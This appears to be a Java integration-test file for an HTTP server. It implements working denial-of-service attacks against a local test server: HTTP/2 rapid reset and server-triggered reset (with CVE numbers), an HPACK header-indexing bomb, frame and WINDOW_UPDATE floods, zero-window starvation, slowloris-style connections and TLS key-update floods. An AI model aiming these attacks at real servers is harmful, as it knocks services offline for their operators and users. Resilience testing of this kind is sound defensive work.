package dev.jetticorn.it.attacks;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import dev.jetticorn.it.harness.Frame;
import dev.jetticorn.it.harness.FrameClient;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.Socket;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.locks.LockSupport;
import java.util.function.BooleanSupplier;
import javax.net.ssl.SSLSocket;

/** What one attacker does, on as many connections as it likes. */
@FunctionalInterface
interface Attack {
  int MUCH = 50_000_000;
  byte[] NONE = {};

  /**
   * Attacks until it is cut off, or told to stop.
   *
   * @throws IOException when the server has closed the connection
   */
  void run(Victim victim) throws Exception;

  /**
   * The server.
   *
   * @param https the port that speaks HTTP/2 and HTTP/1.1 over TLS
   * @param http the port that speaks HTTP/1.1
   * @param goesOn whether the attack is to go on
   */
  record Victim(int https, int http, BooleanSupplier goesOn) {}

  /** Sends the same frames again and again, each time as many as fit a packet or two. */
  static Attack flood(Frame repeated, Frame... first) {
    return victim -> {
      try (FrameClient client = FrameClient.connect(victim.https())) {
        client.send(first);
        Frame[] flood = Collections.nCopies(200, repeated).toArray(Frame[]::new);
        while (victim.goesOn().getAsBoolean()) {
          client.send(flood);
        }
      }
    };
  }

  /** CVE-2023-44487, or CVE-2025-8671 when the second frame makes the server reset the stream. */
  static Attack reset(int type, byte[] payload, int requests) {
    return victim -> {
      try (FrameClient client = FrameClient.connect(victim.https())) {
        for (int i = 0; i < requests && victim.goesOn().getAsBoolean(); i++) {
          int stream = 2 * i + 1;
          client.send(
              FrameClient.headers(stream, Frame.END_STREAM, "GET", "/bytes?count=90000", NONE),
              new Frame(type, 0, stream, payload));
        }
      }
    };
  }

  /** CVE-2026-49975: one field of 3,900 bytes, fifteen times in each of many requests. */
  static Attack headerBomb() {
    return victim -> {
      try (FrameClient client = FrameClient.connect(victim.https())) {
        client.send(initialWindow(0));
        for (int i = 0; victim.goesOn().getAsBoolean() && i < 100; i++) {
          ByteArrayOutputStream block = new ByteArrayOutputStream();
          block.write(FrameClient.headers(1, 0, "GET", "/bytes?count=" + MUCH, NONE).payload());
          if (i == 0) {
            // RFC 7541, 6.2.1: literal with incremental indexing; the length 3,900 is 127 + 3773.
            block.write(new byte[] {0x40, 1, 'x', 0x7f, (byte) 0xbd, 0x1d});
            block.write("y".repeat(3_900).getBytes(ISO_8859_1));
          }
          for (int reference = 0; reference < 15; reference++) {
            block.write(0x80 | 62);
          }
          client.send(
              new Frame(
                  Frame.HEADERS,
                  Frame.END_STREAM | Frame.END_HEADERS,
                  2 * i + 1,
                  block.toByteArray()));
        }
        hold(victim);
      }
    };
  }

  /** Opens the window of a stream by one byte, again and again. */
  static Attack oneByteWindows() {
    Frame[] windows =
        Collections.nCopies(100, new Frame(Frame.WINDOW_UPDATE, 0, 1, new byte[] {0, 0, 0, 1}))
            .toArray(Frame[]::new);
    return victim -> {
      try (FrameClient client = FrameClient.connect(victim.https())) {
        client.send(initialWindow(0));
        client.get(1, "/bytes?count=" + MUCH);
        while (victim.goesOn().getAsBoolean()) {
          client.send(windows);
        }
      }
    };
  }

  /** Asks on 100 streams of each connection and reads nothing; some of them send what is free. */
  static Attack shutWindows(int connections, boolean ofTheConnection) {
    return victim -> {
      List<FrameClient> clients = new ArrayList<>();
      try {
        for (int i = 0; i < connections; i++) {
          FrameClient client = FrameClient.connect(victim.https());
          clients.add(client);
          client.send(initialWindow(ofTheConnection ? Integer.MAX_VALUE : 0));
          for (int stream = 1; stream < 200; stream += 2) {
            client.get(stream, "/bytes?count=" + MUCH);
          }
        }
        while (victim.goesOn().getAsBoolean()) {
          for (FrameClient client : clients) {
            client.send(new Frame(Frame.PING, 0, 0, new byte[8]));
          }
          hold(20);
        }
      } finally {
        for (FrameClient client : clients) {
          client.close();
        }
      }
    };
  }

  /** Many connections that send something, and a byte more now and then. */
  static Attack connections(int count, boolean tls, String request, boolean trickle) {
    return victim -> {
      List<Socket> clients = new ArrayList<>();
      try {
        for (int i = 0; i < count && victim.goesOn().getAsBoolean(); i++) {
          Socket client =
              new Socket(InetAddress.getLoopbackAddress(), tls ? victim.https() : victim.http());
          clients.add(client);
          client.getOutputStream().write(request.getBytes(ISO_8859_1));
        }
        while (victim.goesOn().getAsBoolean()) {
          hold(1_000);
          if (trickle) {
            for (Socket client : clients) {
              client.getOutputStream().write('x');
            }
          }
        }
      } finally {
        for (Socket client : clients) {
          client.close();
        }
      }
    };
  }

  /** TLS 1.3 key updates: the JDK's client sends one when it is told to shake hands again. */
  static Attack keyUpdates() {
    return victim -> {
      try (SSLSocket client = FrameClient.handshake(victim.https(), "http/1.1")) {
        while (victim.goesOn().getAsBoolean()) {
          client.startHandshake();
        }
      }
    };
  }

  static Frame initialWindow(int bytes) {
    byte[] setting = {
      0, 4, (byte) (bytes >> 24), (byte) (bytes >> 16), (byte) (bytes >> 8), (byte) bytes
    };
    return new Frame(Frame.SETTINGS, 0, 0, setting);
  }

  private static void hold(Victim victim) {
    while (victim.goesOn().getAsBoolean()) {
      hold(50);
    }
  }

  private static void hold(long millis) {
    LockSupport.parkNanos(Duration.ofMillis(millis).toNanos());
  }
}
